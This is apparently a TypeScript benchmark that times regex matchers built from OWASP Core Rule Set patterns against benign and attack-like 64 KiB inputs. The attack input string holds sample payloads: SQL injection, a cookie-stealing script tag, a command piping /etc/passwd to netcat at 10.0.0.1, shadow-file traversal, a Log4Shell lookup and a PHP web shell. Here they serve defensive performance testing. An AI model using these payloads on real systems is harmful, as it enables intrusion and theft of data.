/**
 * Micro-benchmark of the AS regex matchers (not a test): ns per input byte for the table DFA walker and the lazy DFA
 * (through the facade, match only), on benign and attack-like inputs, over CRS v4.28.0 patterns.
 *   node --import tsx tests/regex-as/bench.ts
 * A walk stops at the first match, so on attack inputs the figure is per byte of the whole input, not per byte walked.
 */
import { AsRegex } from "./harness";
import { compiledCrs } from "./crs-cache";
import type { CompiledRegex } from "../../rulesets/regex/index";

const as = await AsRegex.create();
const pats = compiledCrs("v4.28.0").patterns.map((p) => ({ ...p, ids: [...p.ruleIds].join(",") }));
const SIZE = 64 * 1024;
const benign = Buffer.from(
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 " +
    "id=12345&name=John+Smith&email=john.smith%40example.com&comment=Thanks+for+the+quick+delivery%2C+great+service! ",
  "latin1",
);
const attack = Buffer.from(
  "1' UNION SELECT username, password FROM users-- <script>alert(document.cookie)</script> ;cat /etc/passwd | nc 10.0.0.1 4444 " +
    "../../../../etc/shadow ${jndi:ldap://x.y/a} <?php system($_GET['c']); ?> ",
  "latin1",
);
const fill = (b: Buffer) => {
  const out = new Uint8Array(SIZE);
  for (let i = 0; i < SIZE; i += b.length) out.set(b.subarray(0, Math.min(b.length, SIZE - i)), i);
  return out;
};
const inputs: [string, Uint8Array][] = [
  ["benign", fill(benign)],
  ["attack", fill(attack)],
];

function time(fn: (iters: number) => number, bytes: number): { nsPerByte: number; matches: number } {
  fn(2); // warm (lazy DFA cache, tiering)
  let iters = 4;
  for (;;) {
    const t0 = performance.now();
    const m = fn(iters);
    const ms = performance.now() - t0;
    if (ms > 150 || iters > 1 << 16) return { nsPerByte: (ms * 1e6) / (iters * bytes), matches: m / iters };
    iters *= 4;
  }
}

const rows: string[] = [];
const row = (name: string, c: CompiledRegex, ids: string, inp: string, r: { nsPerByte: number; matches: number }) =>
  rows.push(`${name.padEnd(10)} ${ids.padEnd(16)} ${String(c.dfa?.numStates ?? c.nfa!.ops.length).padStart(6)} ${inp.padEnd(7)} ${r.nsPerByte.toFixed(3).padStart(8)} ns/B  ${r.matches ? "match" : "no match"}`);

const dfas = pats.filter((p) => p.c.tier === "dfa").sort((a, b) => a.c.dfa!.numStates - b.c.dfa!.numStates);
const lazies = pats.filter((p) => p.c.tier === "lazy").sort((a, b) => a.c.nfa!.ops.length - b.c.nfa!.ops.length);
const pick = <T>(xs: T[]) => [xs[0]!, xs[Math.floor(xs.length / 2)]!, xs[xs.length - 1]!];

rows.push("walker     rules            states/ops input     ns/byte");
for (const p of pick(dfas)) {
  const h = as.add(p.c);
  for (const [name, data] of inputs) {
    const len = as.input(data);
    row("dfa", p.c, p.ids, name, time((n) => as.x.benchDfa(h.dfa, len, n), len));
  }
}
for (const p of pick(lazies)) {
  const h = as.add(p.c);
  for (const [name, data] of inputs) {
    const len = as.input(data);
    row("lazy-dfa", p.c, p.ids, name, time((n) => as.x.benchRegex(h.re, len, n, 0), len));
  }
}
// aggregate: every pattern of the version on the benign input (match only), as the filter would run them unfiltered
{
  const hs = pats.map((p) => as.add(p.c));
  for (const [name, data] of inputs) {
    const len = as.input(data);
    const r = time((n) => {
      let m = 0;
      for (const h of hs) m += as.x.benchRegex(h.re, len, n, 0);
      return m;
    }, len);
    rows.push(`all ${pats.length} v4.28.0 patterns, ${name} 64 KiB: ${(r.nsPerByte).toFixed(1)} ns/B in total (${(r.nsPerByte / pats.length).toFixed(3)} ns/B per pattern), ${r.matches} matching`);
  }
}
console.log(rows.join("\n"));
